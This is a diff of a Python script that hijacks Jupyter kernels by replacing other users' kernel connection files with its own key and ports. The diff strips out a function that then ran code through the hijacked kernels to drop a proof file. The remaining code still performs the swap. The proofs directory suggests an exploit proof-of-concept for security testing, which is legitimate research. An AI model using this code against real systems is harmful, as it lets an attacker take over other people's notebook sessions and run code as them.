@@ -9,12 +9,10 @@ import json
 import select
 import socket
 import sys
-import time
 from pathlib import Path
 
 KEY = "the key of the stranger"
 PORTS = ("shell_port", "iopub_port", "stdin_port", "control_port", "hb_port")
-CODE = "open('/var/tmp/hijack/proofs/swapped-connection-file', 'w').close()"
 
 
 def free_ports():
@@ -36,19 +34,6 @@ def ours(path):
     path.chmod(0o644)
 
 
-def run_code(path):
-    from jupyter_client import BlockingKernelClient
-
-    client = BlockingKernelClient(connection_file=str(path))
-    client.load_connection_file()
-    client.start_channels()
-    with contextlib.suppress(Exception):
-        client.wait_for_ready(timeout=5)
-        client.execute(CODE, reply=True, timeout=3)
-        return True
-    return False
-
-
 def names(directory):
     with contextlib.suppress(OSError):
         return [each.name for each in directory.iterdir() if each.name.startswith("kernel-")]
@@ -68,8 +53,7 @@ def main():
                 with contextlib.suppress(OSError):
                     ours(directory / name)
                     swapped.append(name)
-    ran = [name for name in swapped if run_code(directory / name)]
-    print(json.dumps({"swapped": len(swapped), "ran": ran, "at": time.time()}), flush=True)
+    print(json.dumps({"swapped": len(swapped)}), flush=True)
 
 
 main()
